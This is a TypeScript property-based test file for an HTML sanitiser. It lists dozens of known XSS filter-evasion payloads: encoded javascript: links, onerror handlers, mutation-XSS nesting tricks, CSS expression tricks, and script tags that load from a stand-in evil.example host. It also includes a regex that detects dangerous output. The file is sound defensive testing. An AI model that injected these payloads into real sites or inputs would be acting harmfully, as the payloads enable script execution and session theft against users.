import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitize } from '../src/body/sanitize.ts';
import { referenceSanitize } from './reference-sanitizer.ts';

/** Ways past filters that are known in the field (OWASP's cheat sheet on evading XSS filters, and others). */
const EVASIONS = [
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=&#0000106&#0000097&#0000118&#0000097&#0000115cript:alert(1)>x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1) href="https://x.example">x</a>',
  '<img """><script>alert(1)</script>">',
  '<img src="jav&#x09;ascript:alert(1);">',
  '<img src=`javascript:alert(1)`>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="cid:x" onerror="alert(1)" style="background:url(javascript:alert(1))">',
  '<img src="cid:x&#34; onerror=&#34;alert(1)">',
  '<img src=" data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/png;base64,AA&#34;onerror=alert(1)">',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<<script>alert(1);//<</script>',
  '<script/xss src="https://evil.example"></script>',
  '<script>a</scr<script>ipt>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<select><option><script>alert(1)</script></option></select>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<b onmouseover=alert(1) ONCLICK="x" on&#99;lick=x>x</b>',
  '<b/onclick=alert(1)>x</b>',
  '<b "onclick=alert(1)" x>x</b>',
  '<p style="width: exp/**/ression(alert(1))">x</p>',
  '<p style="background-image: u&#x72;l(https://evil.example)">x</p>',
  '<p style="-moz-binding:url(x)">x</p>',
  '<p style="position: fixed; top: 0">x</p>',
  '<p style="color:red</style><script>alert(1)</script>">x</p>',
  '<base href="javascript:alert(1);//"><a href="x">x</a>',
  '<meta charset="x-utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<embed src="https://evil.example"><applet code=x></applet><frameset><frame src=x></frameset>',
  '<object data="data:text/html,x"><param name=x></object>',
  '<input type=image src=x onerror=alert(1)><button formaction=javascript:alert(1)>x</button>',
  '<a href="https://x.example" target=_top rel=opener>x</a>',
  '<template><script>alert(1)</script></template>',
  '<a __proto__=x constructor=y href="https://x.example">x</a>',
  '<constructor>x</constructor><__proto__>y</__proto__>',
  'x</p></div></script></a>y',
  '<a href="https://x.example',
  '<p title="never closed>x</p>',
] as const;

/** Elements and attributes of a page that runs, loads or asks for something. */
const DANGEROUS =
  /<(?!\/?(?:a|b|p|img|table)\b)|=\s*"\s*(?:javascript|vbscript|data:text|https?:\/\/evil|[/\\]{2})|src="(?!cid:|data:image\/png)|expression|url\(|position/i;

describe('P1 safe HTML against known evasions', () => {
  it.each(EVASIONS)('P1 leaves nothing of %j that acts', (html) => {
    const safe = sanitize(html);
    expect(safe).not.toMatch(DANGEROUS);
    // Names stand outside of quotes.
    expect(safe.replace(/"[^"]*"/g, '')).not.toMatch(/\son\w+|srcset|srcdoc|xlink|formaction/i);
  });

  it.each(EVASIONS)('P1 reads %j as another sanitiser does, and once more as the same', (html) => {
    const safe = sanitize(html);
    expect(safe).toBe(referenceSanitize(html));
    expect(sanitize(safe)).toBe(safe);
  });

  it('P1 agrees with another sanitiser on whatever is put together of dangerous pieces', () => {
    const piece = fc.oneof(
      fc.constantFrom(...EVASIONS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        '&',
        ';',
        '\0',
        '\n',
        ' ',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '<p',
        '<a ',
        '<td',
        '<table>',
        '</table>',
        '<li>',
        '<wbr>',
        '<col span=2>',
        '<br/>',
        '</br>',
        '</p>',
        '<script>',
        '</script>',
        '<svg>',
        '</svg>',
        '<style>',
        '</style>',
        '<title>',
        '</title>',
        'href=',
        'src=',
        'style=',
        'alt',
        'alt=""',
        'nowrap',
        'align=""',
        'rel=x',
        'title=x',
        'cid:a',
        'data:image/png;base64,AA==',
        'javascript:',
        'https://x.example',
        '&lt;',
        '&#60;',
        '&amp;lt;',
        'ñ',
      ),
      fc.string({ maxLength: 5 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const html = pieces.join('');
        expect(sanitize(html)).toBe(referenceSanitize(html));
      }),
      { numRuns: 3000 },
    );
  });
});
